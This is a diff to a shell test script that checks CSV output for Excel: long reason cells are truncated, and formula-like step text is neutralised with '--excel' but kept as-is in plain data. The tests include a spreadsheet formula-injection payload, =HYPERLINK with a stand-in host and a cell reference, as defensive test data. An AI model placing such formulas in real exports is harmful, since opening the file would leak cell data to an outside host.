@@ -383,10 +383,13 @@ len=$(printf '%s' "$why" | wc -m)
 case $why in *"[...]") ;; *) fail "the 40 000-character reason was not cut with [...]" ;; esac
 [ "$len" -le 32767 ] || fail "a why cell has $len characters, more than Excel's 32767"
 ok "a 40 000-character reason is cut to $len characters ending in [...]"
-if grep -qF ',"=HYPERLINK(' cells/recommendations.csv; then
-    fail "a cell starts with =HYPERLINK("
+expect_exit 0 cells-x.log timeout 60 "$PF" run --excel --rules rules --out cells-x samples/
+if grep -qF ',"=HYPERLINK(' cells-x/recommendations.csv; then
+    fail "--excel: a cell starts with =HYPERLINK("
 fi
-grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1) [t.formula-step]\"" cells/recommendations.csv ||
-    fail "a step text starting with = was not written as '=HYPERLINK(...)"
-ok "a rule's step text starting with = is neutralised in next_step"
+grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1) [t.formula-step]\"" cells-x/recommendations.csv ||
+    fail "--excel: a step text starting with = was not written as '=HYPERLINK(...)"
+grep -qF "\"=HYPERLINK(\"\"http://x/?\"\"&A1) [t.formula-step]\"" cells/recommendations.csv ||
+    fail "plain data: a step text starting with = was not kept as it is"
+ok "a rule's step text starting with = is neutralised with --excel, kept as it is in plain data"
 done_testing
